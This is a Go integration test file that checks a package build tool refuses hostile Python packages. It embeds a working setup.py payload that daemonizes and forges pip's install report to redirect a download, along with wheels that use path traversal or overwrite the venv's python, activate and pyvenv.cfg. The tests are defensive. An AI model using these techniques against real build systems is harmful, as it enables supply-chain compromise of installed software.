package integration

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"testing"

	"github.com/skillbuild/skillbuild/internal/pyindex"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Hostile packages against the build: what a resolve step that ran
// package code wrote, and what a wheel asks the installer to do, are
// untrusted. Each case must be refused with exit 1, leave no tag and
// install nothing.

// reportForger is setup.py code that starts a process outliving the
// metadata build: it waits for pip's --report in the resolve step and
// rewrites the entry of project to url (with sha256 sum), as if the index
// had served that. It runs once per step (a lock file in the step's /tmp)
// and never in a step without the report directory.
func reportForger(project, url, sum string) string {
	return fmt.Sprintf(`import os as _fg_os, json as _fg_json, time as _fg_time
_fg_report = "/run/skillbuild/out/r/report.json"
def _fg_forge():
    deadline = _fg_time.time() + 300
    while _fg_time.time() < deadline:
        try:
            with open(_fg_report) as f:
                doc = _fg_json.load(f)
        except Exception:
            _fg_time.sleep(0.0005)
            continue
        for it in doc.get("install", []):
            if it.get("metadata", {}).get("name", "").lower() == %[1]q:
                it["download_info"] = {"url": %[2]q, "archive_info": {"hash": "sha256=" + %[3]q, "hashes": {"sha256": %[3]q}}}
        with open(_fg_report + ".tmp", "w") as f:
            _fg_json.dump(doc, f)
        _fg_os.rename(_fg_report + ".tmp", _fg_report)
        return
try:
    _fg_first = _fg_os.path.isdir(_fg_os.path.dirname(_fg_report)) and _fg_os.open("/tmp/.forger", _fg_os.O_CREAT | _fg_os.O_EXCL) >= 0
except OSError:
    _fg_first = False
if _fg_first:
    _fg_pid = _fg_os.fork()
    if _fg_pid == 0:
        _fg_os.setsid()
        if _fg_os.fork() == 0:
            _fg_null = _fg_os.open("/dev/null", _fg_os.O_RDWR)
            for _fg_fd in (0, 1, 2):
                _fg_os.dup2(_fg_null, _fg_fd)
            _fg_os.closerange(3, 4096)
            try:
                _fg_forge()
            finally:
                _fg_os._exit(0)
        _fg_os._exit(0)
    _fg_os.waitpid(_fg_pid, 0)
`, project, url, sum)
}

func fileSHA256(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// refused checks a hostile build's outcome: exit 1, the message, no tag,
// no install step ran when nothing may be installed.
func refused(t *testing.T, out installJSON, r result, tag string, want ...string) {
	t.Helper()
	assert.Equal(t, 1, r.code, "stderr: %s", r.stderr)
	assert.False(t, out.Success)
	for _, w := range want {
		assert.Contains(t, out.Error, w)
	}
	assert.False(t, imageExists(t, tag), "a refused build left the tag %s", tag)
}

func TestBuildHostileForgedReportIsRefused(t *testing.T) {
	// The file the forged report points at: a wheel of the same name and
	// version, with its true hash, on another port of the same host.
	evilDir := t.TempDir()
	evilWheel, err := pyindex.BuildWheel(evilDir, pyindex.Wheel{Name: "totally-safe", Version: "1.0", Init: "EVIL = True\n"})
	require.NoError(t, err)
	evil, err := pyindex.Serve(evilDir)
	require.NoError(t, err)
	t.Cleanup(func() { evil.Close() })
	evilURL := "http://" + evil.Addr() + "/files/" + pyindex.WheelFilename("totally-safe", "1.0")

	srv, dir := index(t, pyindex.Wheel{Name: "totally-safe", Version: "1.0"})
	_, err = pyindex.BuildSdist(dir, pyindex.Sdist{
		Name: "forger", Version: "1.0",
		Prelude: reportForger("totally-safe", evilURL, fileSHA256(t, evilWheel)),
	})
	require.NoError(t, err)

	out, r := install(t, srv, "forged", []string{"--allow-sdist"}, "totally-safe==1.0", "forger==1.0")
	refused(t, out, r, "atom-skill:forged-v1",
		"totally-safe 1.0 resolved to \""+evilURL+"\"",
		"not on an allowed index host (http://"+evil.Addr()+")",
		"allowed are files on http://"+srv.Addr())
	assert.Empty(t, installSteps(out.Steps), "nothing was installed")
	assert.Empty(t, evil.Downloads(), "the forged URL was fetched")
	assert.Empty(t, evil.Requests(), "the forged host was contacted")
}

func TestBuildHostileWheelsAreRefused(t *testing.T) {
	const unsafeHint = "remove the distribution"
	tests := []struct {
		name  string
		wheel pyindex.Wheel
		want  []string
		hint  string
	}{
		{"absolute entry point", pyindex.Wheel{Name: "ep-abs", Version: "1.0",
			RawEntryPoints: "[console_scripts]\n/etc/skillbuild-hostile = ep_abs:main\n"},
			[]string{"refused an unsafe wheel", "unsafe console script name '/etc/skillbuild-hostile'"}, unsafeHint},
		{"entry point climbing out of bin", pyindex.Wheel{Name: "ep-up", Version: "1.0",
			RawEntryPoints: "[console_scripts]\n../../../../usr/lib/skillbuild-hostile = ep_up:main\n"},
			[]string{"refused an unsafe wheel", "unsafe console script name"}, unsafeHint},
		{"script over the venv's python link", pyindex.Wheel{Name: "data-link", Version: "1.0",
			Files: map[string]string{"data_link-1.0.data/scripts/python": "#!/bin/sh\necho pwned\n"}},
			[]string{"refused an unsafe wheel: data-link 1.0", "writes /opt/skill/venv/bin/python (from 'data_link-1.0.data/scripts/python'), which belongs to the virtual environment"},
			"remove data-link from the requirements"},
		{"data through lib64", pyindex.Wheel{Name: "data-lib64", Version: "1.0",
			Files: map[string]string{"data_lib64-1.0.data/data/lib64/skillbuild-hostile": "x\n"}},
			[]string{"refused an unsafe wheel: data-lib64 1.0", "writes /opt/skill/venv/lib64/skillbuild-hostile", "which belongs to the virtual environment"},
			"remove data-lib64 from the requirements"},
		{"data over the venv's pyvenv.cfg", pyindex.Wheel{Name: "venv-cfg", Version: "1.0",
			Files: map[string]string{"venv_cfg-1.0.data/data/pyvenv.cfg": "home = /usr/bin\ninclude-system-site-packages = true\n"}},
			[]string{`refused an unsafe wheel: venv-cfg 1.0 (venv_cfg-1.0-py3-none-any.whl; requirement "venv-cfg==1.0")`,
				"writes /opt/skill/venv/pyvenv.cfg (from 'venv_cfg-1.0.data/data/pyvenv.cfg'), which belongs to the virtual environment"},
			"a distribution may only add files of its own"},
		{"script over the venv's activate", pyindex.Wheel{Name: "venv-activate", Version: "1.0",
			Files: map[string]string{"venv_activate-1.0.data/scripts/activate": "echo pwned\n"}},
			[]string{"refused an unsafe wheel: venv-activate 1.0",
				"writes /opt/skill/venv/bin/activate (from 'venv_activate-1.0.data/scripts/activate'), which belongs to the virtual environment"},
			"remove venv-activate from the requirements"},
		{"layer with another distribution's dist-info", pyindex.Wheel{Name: "two-faced", Version: "1.0",
			Files: map[string]string{"two_faced-1.0.data/purelib/evil-6.6.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 6.6\n"}},
			[]string{"does not hold the distribution its lock entry names", "the layer of two-faced==1.0 contains evil-6.6.dist-info"}, ""},
	}
	var wheels []pyindex.Wheel
	for _, tt := range tests {
		wheels = append(wheels, tt.wheel)
	}
	srv, _ := index(t, wheels...)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			id := "hostile-" + pyindex.Normalize(tt.wheel.Name)
			out, r := install(t, srv, id, nil, tt.wheel.Name+"=="+tt.wheel.Version)
			refused(t, out, r, "atom-skill:"+id+"-v1", tt.want...)
			assert.Contains(t, out.Hint, tt.hint)
		})
	}
}

// A wheel's own scripts and data files (.data/scripts, .data/data) are
// files of its own: they install beside the venv's, which stay as they
// were.
func TestBuildWheelDataFilesOfItsOwnInstall(t *testing.T) {
	srv, _ := index(t, pyindex.Wheel{Name: "own-data", Version: "1.0", Files: map[string]string{
		"own_data-1.0.data/scripts/mytool":                "#!python\nimport own_data\nprint('mytool', own_data.__version__)\n",
		"own_data-1.0.data/data/share/own-data/notes.txt": "notes\n",
	}})
	out, r := install(t, srv, "own-data", nil, "own-data==1.0")
	require.Equal(t, 0, r.code, "stderr: %s\nerror: %s", r.stderr, out.Error)
	got, err := runIn(t, "docker.io/library/"+out.ImageTag, "sh", "-c",
		"/opt/skill/venv/bin/mytool && cat /opt/skill/venv/share/own-data/notes.txt && "+
			"grep include-system-site-packages /opt/skill/venv/pyvenv.cfg && { /opt/skill/venv/bin/python -c 'import pip' 2>&1 | tail -1; }")
	require.NoError(t, err, got)
	assert.Equal(t, "mytool 1.0\nnotes\ninclude-system-site-packages = false\nModuleNotFoundError: No module named 'pip'\n", got)
}

func TestBuildSdistCodeRunsUnprivileged(t *testing.T) {
	srv, dir := index(t)
	// Fails the build wherever its setup.py runs as root (the resolve
	// step builds its metadata, the build step its wheel), and checks it
	// can use HOME and TMPDIR as an unprivileged user.
	_, err := pyindex.BuildSdist(dir, pyindex.Sdist{
		Name: "not-root", Version: "1.0",
		Prelude: `import os, tempfile
if os.getuid() == 0 or os.geteuid() == 0:
    raise SystemExit("setup.py runs as root")
with tempfile.NamedTemporaryFile(dir=os.path.expanduser("~")) as f:
    f.write(b"ok")
`,
	})
	require.NoError(t, err)
	out, r := install(t, srv, "not-root", []string{"--allow-sdist"}, "not-root==1.0")
	require.Equal(t, 0, r.code, "stderr: %s\nerror: %s", r.stderr, out.Error)
	assert.Contains(t, out.Steps, "build wheel not-root==1.0 from source")
	got, err := runIn(t, "docker.io/library/"+out.ImageTag, "python3", "-c", "import not_root; print(not_root.__version__)")
	require.NoError(t, err)
	assert.Equal(t, "1.0\n", got)
}

// A find-links directory is an allowed source: the report's file:// URLs
// into it pass the lock check.
func TestBuildFindLinksFilesPassTheLockCheck(t *testing.T) {
	links := t.TempDir()
	_, err := pyindex.BuildWheel(links, pyindex.Wheel{Name: "linked", Version: "2.0"})
	require.NoError(t, err)
	r := sb(t, "install", "--json", "--base", env.base, "--find-links", links, "--no-scan", "--progress", "plain", "linked", "linked==2.0")
	out := parseInstall(t, r)
	require.Equal(t, 0, r.code, "stderr: %s\nerror: %s", r.stderr, out.Error)
	got, err := runIn(t, "docker.io/library/"+out.ImageTag, "python3", "-c", "import linked; print(linked.__version__)")
	require.NoError(t, err)
	assert.Equal(t, "2.0\n", got)
}
